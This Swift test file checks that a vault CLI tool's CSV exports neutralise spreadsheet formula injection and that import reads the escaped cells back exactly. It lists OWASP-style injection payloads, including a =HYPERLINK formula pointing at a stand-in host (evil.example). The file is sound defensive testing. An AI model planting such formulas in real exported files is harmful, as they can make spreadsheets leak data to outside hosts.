import Foundation
import XCTest

/// Issue 11, point 2: every CSV vaultcli writes neutralises spreadsheet formulas (OWASP CSV
/// injection: a cell starting with = + - @ tab or CR gets a leading '), and import reads such
/// cells back exactly. Table-driven over the OWASP prefixes and every CSV writer.
final class CSVInjectionTests: EndToEndTestCase {
    /// OWASP's prefixes, as payloads a hostile file or cashier would plant (no "/": some go
    /// into file names), plus values that already start with quotes.
    static let payloads = [
        "=HYPERLINK(\"evil.example?x\",\"y\")", "=1+2", "@SUM(A1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1",
        "'=already quoted", "''-twice", "'plain", "safe text",
    ]
    static func isFormula(_ s: String) -> Bool {
        guard let f = s.unicodeScalars.first else { return false }
        return "=+-@\t\r".unicodeScalars.contains(f)
    }
    /// The cell a spreadsheet must see for a payload.
    static func neutralised(_ p: String) -> String {
        p.drop(while: { $0 == "'" }).first.map { "=+-@\t\r".contains($0) } == true ? "'" + p : p
    }

    /// RFC 4180 parsing (quoted fields, "" for a quote, line breaks inside quotes).
    func parseCSV(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
        var it = Array(text.unicodeScalars)[...]
        var atStart = true
        while let c = it.popFirst() {
            if quoted {
                if c == "\"" { if it.first == "\"" { it.removeFirst(); cell.unicodeScalars.append("\"") } else { quoted = false } }
                else { cell.unicodeScalars.append(c) }
            } else if c == "\"" && atStart { quoted = true; atStart = false
            } else if c == "," { row.append(cell); cell = ""; atStart = true; continue
            } else if c == "\n" { row.append(cell); rows.append(row); row = []; cell = ""; atStart = true; continue
            } else { cell.unicodeScalars.append(c) }
            atStart = false
        }
        if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
        return rows
    }

    func admin(_ args: [String], vault v: String? = nil, stdin extra: [String] = []) -> CLIResult {
        vaultcli(args + ["--vault", v ?? vault, "--user", "admin", "--password-stdin"], stdin: ([adminPassword] + extra).map { $0 + "\n" }.joined())
    }

    func jsonString(_ s: String) -> String {
        String(decoding: try! JSONSerialization.data(withJSONObject: [s], options: [.fragmentsAllowed]), as: UTF8.self).dropFirst().dropLast().description
    }

    func testEveryCSVWriterNeutralisesFormulasAndImportReadsThemBack() throws {
        initVault()
        let p = Self.payloads
        // Transactions whose reference, id and operator carry the payloads (JSON Lines import).
        // Transaction fields refuse control characters, so the tab and CR payloads reach only
        // the audit log (through a file name).
        let noControl = p.filter { !$0.contains("\t") && !$0.contains("\r") }
        var jsonl = ""
        for (i, s) in p.enumerated() where noControl.contains(s) {
            jsonl += "{\"id\":\(jsonString("x\(i)")),\"time\":\"2026-11-22T10:00:00Z\",\"amount\":\"1.00\",\"reference\":\(jsonString(s)),\"operator\":\(jsonString("op\(i)"))}\n"
        }
        let jl = dir + "/in.jsonl"
        FileManager.default.createFile(atPath: jl, contents: Data(jsonl.utf8))
        var r = admin(["tx", "import", jl, "--format", "jsonl"])
        XCTAssertEqual(r.status, 0, r.stderr)
        // Merchant accounts whose label, service and username carry them (no tab or CR: the
        // account fields refuse control characters).
        for (i, s) in p.enumerated() where !s.contains("\t") && !s.contains("\r") {
            r = admin(["account", "add", "--label=\(s)", "--service=\(s)", "--username", "u\(i)", "--secret-stdin"], stdin: ["Acct-Secret-\(i)!x"])
            XCTAssertEqual(r.status, 0, "\(s): \(r.stderr)")
        }
        // Import files named after them (the audit log names the file).
        let cwd = FileManager.default.currentDirectoryPath
        FileManager.default.changeCurrentDirectoryPath(dir)
        defer { FileManager.default.changeCurrentDirectoryPath(cwd) }
        for (i, s) in p.enumerated() where !s.contains("/") {
            let name = s + ".csv"
            FileManager.default.createFile(atPath: name, contents: Data("id,time,amount\nf\(i),2026-11-22T10:00:00Z,1.00\n".utf8))
            r = vaultcli(["tx", "import", "--vault", vault, "--user", "admin", "--password-stdin", "--", name], stdin: adminPassword + "\n")
            XCTAssertEqual(r.status, 0, "\(s): \(r.stderr)")
        }

        // The writers, and the column each payload lands in.
        let writers: [(String, [String], (String) -> [String])] = [
            ("tx export --format csv", ["tx", "export", "--format", "csv"], { noControl.contains($0) ? [$0] : [] }),
            ("tx list --csv", ["tx", "list", "--csv"], { noControl.contains($0) ? [$0] : [] }),
            ("account list --csv", ["account", "list", "--csv"], { $0.contains("\t") || $0.contains("\r") ? [] : [$0] }),
            ("audit list --csv", ["audit", "list", "--csv"], { [$0 + ".csv lines 2-2"] }),
        ]
        for (what, args, expected) in writers {
            let out = what.hasPrefix("audit")
                ? vaultcli(args + ["--vault", vault, "--as", "admin", "--password-stdin"], stdin: adminPassword + "\n")
                : admin(args)
            XCTAssertEqual(out.status, 0, "\(what): \(out.stderr)")
            let cells = parseCSV(out.stdout).flatMap { $0 }
            XCTAssertGreaterThan(cells.count, 4, what)
            // No cell at all starts a formula.
            for c in cells { XCTAssertFalse(Self.isFormula(c), "\(what): a live formula cell \(c.debugDescription)") }
            for s in p {
                for e in expected(s) {
                    let want = Self.neutralised(e)
                    XCTAssertTrue(cells.contains(want), "\(what): expected the cell \(want.debugDescription) for \(s.debugDescription)")
                }
            }
        }

        // Import reads the export back exactly: a second vault, the references compared as JSON.
        let exported = admin(["tx", "export", "--format", "csv"]).stdout
        let second = dir + "/vault2"
        XCTAssertEqual(vaultcli(["init", "--vault", second, "--password-stdin", "--terminal-id", "T-2"], stdin: adminPassword + "\n").status, 0)
        let pwFile = dir + "/pw"
        FileManager.default.createFile(atPath: pwFile, contents: Data((adminPassword + "\n").utf8), attributes: [.posixPermissions: 0o600])
        r = vaultcli(["tx", "import", "-", "--vault", second, "--user", "admin", "--password-file", pwFile], stdin: exported)
        XCTAssertEqual(r.status, 0, r.stderr)
        func references(_ v: String) -> [String: String] {
            let j = admin(["tx", "list", "--json"], vault: v)
            var m: [String: String] = [:]
            for t in (j.json as? [[String: Any]]) ?? [] where (t["id"] as! String).hasPrefix("x") { m[t["id"] as! String] = t["reference"] as? String ?? "" }
            return m
        }
        let a = references(vault), b = references(second)
        XCTAssertEqual(a, b)
        XCTAssertEqual(a.count, noControl.count)
        for (i, s) in p.enumerated() where noControl.contains(s) { XCTAssertEqual(b["x\(i)"], s, "round trip of \(s.debugDescription)") }
        // And the second export is byte for byte the first (stable).
        XCTAssertEqual(admin(["tx", "export", "--format", "csv"], vault: second).stdout, exported)
    }
}
